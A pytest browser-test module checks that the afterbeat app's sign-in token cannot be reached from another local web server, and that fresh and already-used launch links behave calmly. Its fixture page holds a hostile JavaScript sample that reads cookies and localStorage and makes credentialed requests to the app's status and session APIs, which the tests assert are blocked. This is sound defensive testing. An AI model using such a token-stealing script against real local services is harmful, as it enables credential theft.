"""Signing in, in Debian's chromium: what another local port can get, and a calm first run.

docs/security.md W-TOKEN, W-LAUNCH and W-CALM. One `afterbeat demo --speed 1` subprocess and one
"other local listener" (a plain HTTP server on another 127.0.0.1 port, standing for any dev
server or another user's process) serve the module.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from browserkit import (
    CHROMIUM,
    CHROMIUM_ARGS,
    ROOT,
    DemoServer,
    demo_server,
    playwright_or_skip,
    wait_for,
)

pytestmark = pytest.mark.browser


@dataclass
class Listener:
    """Another local web server: its URL and every request head it received."""

    url: str
    seen: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DemoServer]:
    playwright_or_skip()
    with demo_server(tmp_path_factory.mktemp("signin-data"), "1") as running:
        yield running


_THIEF_PAGE = """<!doctype html><title>another local app</title><script>
window.result = (async () => {
  const out = { cookie: document.cookie, stored: localStorage.getItem('afterbeat-token'),
                keys: Object.keys(localStorage) };
  await fetch('/collect', { credentials: 'include' });
  try {
    const r = await fetch('%(target)s/api/status', { credentials: 'include' });
    out.status = r.status; out.body = await r.text();
  } catch (e) { out.status = 'blocked'; }
  try {
    const r = await fetch('%(target)s/api/session', { method: 'POST', credentials: 'include',
      headers: { 'Content-Type': 'application/json' }, body: '{"ticket": "x"}' });
    out.session = r.status;
  } catch (e) { out.session = 'blocked'; }
  return out;
})();
</script>"""


@pytest.fixture(scope="module")
def listener(server: DemoServer) -> Iterator[Listener]:
    """A web server on another 127.0.0.1 port that records every request head it gets."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(f"{self.requestline}\n{self.headers.as_string()}")
            body = (_THIEF_PAGE % {"target": server.url}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            return

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield Listener(f"http://127.0.0.1:{httpd.server_address[1]}", seen)
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright_or_skip()() as pw:
        launched = pw.chromium.launch(executable_path=str(CHROMIUM), headless=True,
                                      args=CHROMIUM_ARGS)
        yield launched
        launched.close()


def _watched_page(context: Any) -> tuple[Any, list[str], list[str]]:
    page = context.new_page()
    errors: list[str] = []
    requests: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type in ("error", "warning")
            else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("request", lambda r: requests.append(r.url))
    return page, errors, requests


def test_another_local_port_gets_nothing_usable(browser: Any, server: DemoServer,
                                                listener: Listener) -> None:
    context = browser.new_context()
    try:
        page, errors, _ = _watched_page(context)
        page.goto(server.launch_url, wait_until="load")
        wait_for(lambda: page.evaluate("() => document.body.dataset.live === 'open'"), 20,
                  "the signed-in dashboard's live stream")
        assert "#launch=" not in page.url, "the ticket leaves the address bar"
        assert page.evaluate("() => document.cookie") == ""
        assert context.cookies() == [], "afterbeat sets no cookie at all"
        assert page.evaluate("() => localStorage.getItem('afterbeat-token')") == server.token
        assert errors == []

        thief = context.new_page()
        thief.goto(listener.url, wait_until="load")
        result = thief.evaluate("() => window.result")
    finally:
        context.close()
    assert result["cookie"] == "" and result["stored"] is None and result["keys"] == []
    assert result["status"] in ("blocked", 401, 403)
    assert server.token not in str(result.get("body", ""))
    assert result["session"] in ("blocked", 403)
    assert len(listener.seen) >= 2, "the other app's page and its same-origin fetch arrived"
    assert not [head for head in listener.seen if server.token in head or "afterbeat" in head]


def test_plain_address_shows_how_to_get_in_quietly(browser: Any, server: DemoServer) -> None:
    context = browser.new_context()
    try:
        page, errors, requests = _watched_page(context)
        page.goto(server.url, wait_until="load")
        wait_for(lambda: page.evaluate("() => document.body.dataset.signedIn === 'false'"), 10,
                  "the signed-out page")
        page.wait_for_timeout(1500)  # time for any stray call or reconnect to show up
        assert page.is_visible("#signin") and not page.is_visible("#main")
        text = page.inner_text("#signin")
        assert "afterbeat open" in text and "terminal" in text
        api_calls = [url for url in requests if "/api/" in url]
        assert api_calls == [], "a page without a token asks the server nothing"
        assert errors == [], errors
    finally:
        context.close()


def test_a_used_link_lands_on_the_same_calm_page(browser: Any, server: DemoServer) -> None:
    first = browser.new_context()
    try:
        page, _, _ = _watched_page(first)
        link = subprocess.run(
            [sys.executable, "-m", "afterbeat", "open", "--no-open", "--demo", "--data-dir",
             str(server.data_dir)], env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
            text=True, capture_output=True, timeout=60, check=True).stdout.strip().split()[-1]
        page.goto(link, wait_until="load")
        wait_for(lambda: page.evaluate("() => document.body.dataset.signedIn === 'true'"), 10,
                  "the fresh link from `afterbeat open` to sign in")
    finally:
        first.close()
    second = browser.new_context()
    try:
        page, errors, requests = _watched_page(second)
        page.goto(link, wait_until="load")
        wait_for(lambda: page.evaluate("() => document.body.dataset.signedIn === 'false'"), 10,
                  "the signed-out page for a used link")
        assert "already used" in page.inner_text("#signin-reason")
        assert page.is_visible("#signin") and "{" not in page.inner_text("body")[:1]
        assert [url for url in requests if "/api/" in url] == [f"{server.url}/api/session"]
        assert errors == [], errors
    finally:
        second.close()
